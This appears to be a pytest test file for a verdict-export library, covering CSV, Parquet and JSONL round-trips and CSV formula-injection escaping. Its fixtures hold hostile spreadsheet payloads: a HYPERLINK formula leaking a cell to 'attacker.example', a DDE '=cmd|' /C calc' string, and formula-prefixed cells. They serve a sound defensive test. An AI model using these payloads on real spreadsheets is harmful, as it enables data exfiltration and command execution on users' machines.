"""Exporting current verdicts with their provenance to CSV, Parquet and JSONL."""

import csv
import json

import pandas as pd
import pytest

import feedback_store
from feedback_store import InvalidVerdict

TRICKY = 'مرحبا 👋 <script>alert(1)</script> "quoted", comma;\nsecond line'


@pytest.fixture
def store(tmp_path):
    store = feedback_store.open(tmp_path / "ws")
    store.record(
        sprint="S1", prototype="gbm", row_id="4711", reviewer="ana", verdict="wrong",
        corrected_label="1", comment=TRICKY, tags=["sensor", "😀"], task="binary",
        features={"Type": "L", "Torque [Nm]": 65.2, "Tool wear [min]": 108},
        prediction={"label": "0", "confidence": 0.83, "probabilities": {"0": 0.83, "1": 0.17}},
    )  # fmt: skip
    store.record(
        sprint="S1", prototype="gbm", row_id="12", reviewer="bob", verdict="correct",
        features={"Type": "M", "Torque [Nm]": 40.0}, prediction={"label": "1", "confidence": 0.6},
    )  # fmt: skip
    store.record(sprint="S2", prototype="rules", row_id="7", reviewer="ana", verdict="unsure")
    return store


def read(path, fmt):
    if fmt == "csv":
        frame = pd.read_csv(path, dtype={"row_id": str, "corrected_label": str})
        frame["comment"] = frame["comment"].fillna("")
        frame["tags"] = frame["tags"].map(lambda s: s.split(";") if isinstance(s, str) else [])
        return frame
    if fmt == "parquet":
        frame = pd.read_parquet(path)
        frame["tags"] = frame["tags"].map(list)
        return frame
    return pd.DataFrame([json.loads(line) for line in path.read_text("utf-8").splitlines()])


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_round_trips_values_features_and_unicode(store, tmp_path, fmt):
    path = store.export(tmp_path / f"out.{fmt}", format=fmt, sprint="S1")
    frame = read(path, fmt).set_index("row_id")
    assert list(frame.columns[:13]) == [
        "verdict_id", "version", "sprint", "prototype", "reviewer", "verdict",
        "corrected_label", "comment", "tags", "recorded_at", "predicted_label", "confidence",
        "task",
    ]  # fmt: skip
    ana = frame.loc["4711"]
    assert ana["comment"] == TRICKY
    assert ana["tags"] == ["sensor", "😀"]
    assert (ana["verdict"], ana["corrected_label"], ana["reviewer"]) == ("wrong", "1", "ana")
    assert (str(ana["predicted_label"]), ana["confidence"], ana["task"]) == ("0", 0.83, "binary")
    assert ana["recorded_at"].endswith("+00:00")
    assert (ana["Type"], ana["Torque [Nm]"], ana["Tool wear [min]"]) == ("L", 65.2, 108)
    assert frame.loc["12", "Torque [Nm]"] == 40.0
    assert pd.isna(frame.loc["12", "Tool wear [min]"])


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_numeric_features_export_as_numeric_columns(store, tmp_path, fmt):
    frame = read(store.export(tmp_path / f"out.{fmt}", format=fmt), fmt)
    assert pd.api.types.is_float_dtype(frame["Torque [Nm]"])
    assert pd.api.types.is_numeric_dtype(frame["Tool wear [min]"])
    assert pd.api.types.is_float_dtype(frame["confidence"])


def test_export_filters_by_sprint_prototype_and_reviewer(store, tmp_path):
    path = store.export(tmp_path / "ana.jsonl", format="jsonl", reviewer="ana")
    assert sorted(read(path, "jsonl")["row_id"]) == ["4711", "7"]
    path = store.export(tmp_path / "rules.jsonl", format="jsonl", sprint="S2", prototype="rules")
    assert read(path, "jsonl")["row_id"].tolist() == ["7"]


def test_export_leaves_out_withdrawn_verdicts_and_uses_the_current_version(store, tmp_path):
    bob = store.verdicts(reviewer="bob")["verdict_id"].iloc[0]
    store.withdraw(bob, reviewer="bob")
    ana = store.verdicts(sprint="S1", reviewer="ana")["verdict_id"].iloc[0]
    store.edit(ana, reviewer="ana", corrected_label="2")
    frame = read(store.export(tmp_path / "out.csv", sprint="S1"), "csv")
    assert frame[["row_id", "version", "corrected_label"]].values.tolist() == [["4711", 2, "2"]]


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_of_an_empty_selection_writes_a_valid_empty_file(store, tmp_path, fmt):
    path = store.export(tmp_path / f"empty.{fmt}", format=fmt, sprint="nope")
    assert path.is_file()
    if fmt == "jsonl":
        assert path.read_text() == ""
    else:
        frame = read(path, fmt)
        assert len(frame) == 0
        assert "verdict_id" in frame.columns


def test_export_with_an_unknown_format_is_rejected(store, tmp_path):
    with pytest.raises(InvalidVerdict, match="use one of csv, parquet, jsonl"):
        store.export(tmp_path / "out.xlsx", format="xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def test_export_replaces_an_existing_file_and_leaves_no_temp_files(store, tmp_path):
    target = tmp_path / "out" / "verdicts.csv"
    target.parent.mkdir()
    target.write_text("old")
    store.export(target)
    assert target.read_text().startswith("verdict_id,")
    assert [p.name for p in target.parent.iterdir()] == ["verdicts.csv"]


def test_a_feature_named_like_an_export_column_gets_a_prefix(tmp_path):
    store = feedback_store.open(tmp_path)
    store.record(sprint="S", prototype="p", row_id="1", reviewer="r", verdict="correct",
                 features={"comment": "feature value"})  # fmt: skip
    frame = read(store.export(tmp_path / "out.jsonl", format="jsonl"), "jsonl")
    assert (frame["comment"].iloc[0], frame["feature.comment"].iloc[0]) == ("", "feature value")


def test_export_can_keep_one_kind_of_verdict(tmp_path):
    store = feedback_store.open(tmp_path)
    store.record(sprint="S", prototype="p", row_id="1", reviewer="ana", verdict="correct")
    store.record(
        sprint="S", prototype="p", row_id="2", reviewer="ana", verdict="wrong", corrected_label="1"
    )
    path = store.export(tmp_path / "wrong.csv", format="csv", verdict="wrong")
    exported = pd.read_csv(path)
    assert exported["row_id"].astype(str).tolist() == ["2"]
    with pytest.raises(feedback_store.InvalidVerdict):
        store.export(tmp_path / "x.csv", format="csv", verdict="maybe")


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'


@pytest.fixture
def hostile_store(tmp_path):
    store = feedback_store.open(tmp_path / "hostile")
    store.record(
        sprint="S1", prototype="gbm", row_id="1", reviewer="ana", verdict="wrong",
        corrected_label="-1", comment=FORMULA, tags=["-sensor", "ok"],
        features={"note": "@SUM(A1)", "tabbed": "\tcmd", "returned": "\rcmd", "plus": "+1+2",
                  "minus": "-2+3", "negative text": "-1.5e3", "delta": -3.5, "count": -2},
        prediction={"label": "=1+1", "confidence": 0.5},
    )  # fmt: skip
    store.record(sprint="S1", prototype="gbm", row_id="2", reviewer="bo", verdict="correct",
                 comment="plain = not first", features={"note": "fine", "delta": 1.0})  # fmt: skip
    return store


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(hostile_store, tmp_path):
    frame = pd.read_csv(
        hostile_store.export(tmp_path / "out.csv", format="csv"),
        dtype={"corrected_label": str, "negative text": str},
        lineterminator="\n",  # Python's csv module leaves a lone "\r" in a cell unquoted
    ).set_index("row_id")
    ana = frame.loc[1]
    assert ana["comment"] == "'" + FORMULA
    assert ana["tags"] == "'-sensor;ok"
    assert ana["predicted_label"] == "'=1+1"
    assert (ana["note"], ana["tabbed"], ana["returned"]) == ("'@SUM(A1)", "'\tcmd", "'\rcmd")
    assert (ana["plus"], ana["minus"]) == ("'+1+2", "'-2+3")
    # Numbers, whether in numeric columns or written as text, are left as they are.
    assert (ana["corrected_label"], ana["negative text"]) == ("-1", "-1.5e3")
    assert (ana["delta"], ana["count"]) == (-3.5, -2)
    assert frame.loc[2, "comment"] == "plain = not first"
    assert frame.loc[2, "note"] == "fine"


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl_keep_formula_like_text_verbatim(hostile_store, tmp_path, fmt):
    frame = read(hostile_store.export(tmp_path / f"out.{fmt}", format=fmt), fmt)
    ana = frame.set_index("row_id").loc["1"]
    assert ana["comment"] == FORMULA
    assert list(ana["tags"]) == ["-sensor", "ok"]
    assert (ana["note"], ana["tabbed"], ana["plus"]) == ("@SUM(A1)", "\tcmd", "+1+2")
    assert ana["predicted_label"] == "=1+1"


def test_training_csv_guards_text_features_but_not_labels_that_are_numbers(tmp_path):
    store = feedback_store.open(tmp_path / "training")
    features = {"Type": "=cmd|' /C calc'!A0", "x": -1.5}
    store.record(sprint="S", prototype="p", row_id="1", reviewer="ana", verdict="wrong",
                 corrected_label="-1", features=features)  # fmt: skip
    path, _ = store.export_training(tmp_path / "train.csv", format="csv")
    frame = pd.read_csv(path, dtype={"label": str})
    assert frame[["Type", "x", "label"]].values.tolist() == [["'=cmd|' /C calc'!A0", -1.5, "-1"]]
    parquet, _ = store.export_training(tmp_path / "train.parquet", format="parquet")
    assert pd.read_parquet(parquet)["Type"].tolist() == ["=cmd|' /C calc'!A0"]


def test_a_lone_carriage_return_is_quoted_and_the_csv_reads_back_one_row_per_verdict(tmp_path):
    store = feedback_store.open(tmp_path / "ws")
    # The first holds neither quote nor comma: nothing else would make the writer quote it.
    comments = ["first line\r=1+2", "crlf\r\nmid", 'a "quote", a comma', "plain"]
    for number, comment in enumerate(comments):
        store.record(
            sprint="S1",
            prototype="gbm",
            row_id=f"r{number}",
            reviewer="ana",
            verdict="correct",
            comment=comment,
            features={"Torque [Nm]": 40 + number},
        )
    path = store.export(tmp_path / "out.csv", format="csv")
    frame = pd.read_csv(path, dtype={"row_id": str}, keep_default_na=False)
    assert frame["comment"].tolist() == comments
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert [row[rows[0].index("comment")] for row in rows[1:]] == comments
    assert path.read_bytes().count(b"\r") == 2  # only inside the quoted comments


def test_feature_names_in_the_csv_header_are_guarded_like_cells(tmp_path):
    store = feedback_store.open(tmp_path / "ws")
    hostile = '=HYPERLINK("http://evil.example","x")'
    store.record(sprint="S1", prototype="gbm", row_id="1", reviewer="ana", verdict="correct",
                 features={hostile: 1, "@SUM(A1)": 2, "-rate": 3, "ok": 4},
                 prediction={"label": "0"})  # fmt: skip
    store.record(
        sprint="S1",
        prototype="gbm",
        row_id="2",
        reviewer="ana",
        verdict="wrong",
        corrected_label="1",
        features={"x\rcol": 5},
        prediction={"label": "0"},
    )
    path = store.export(tmp_path / "out.csv", format="csv")
    with path.open(newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    assert {"'" + hostile, "'@SUM(A1)", "'-rate", "ok", "x\rcol"} <= set(header)
    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in header)
    assert len(pd.read_csv(path, dtype={"row_id": str})) == 2
    training = store.export_training(tmp_path / "t.csv", format="csv")
    with training.path.open(newline="", encoding="utf-8") as file:
        assert "'" + hostile in next(csv.reader(file))
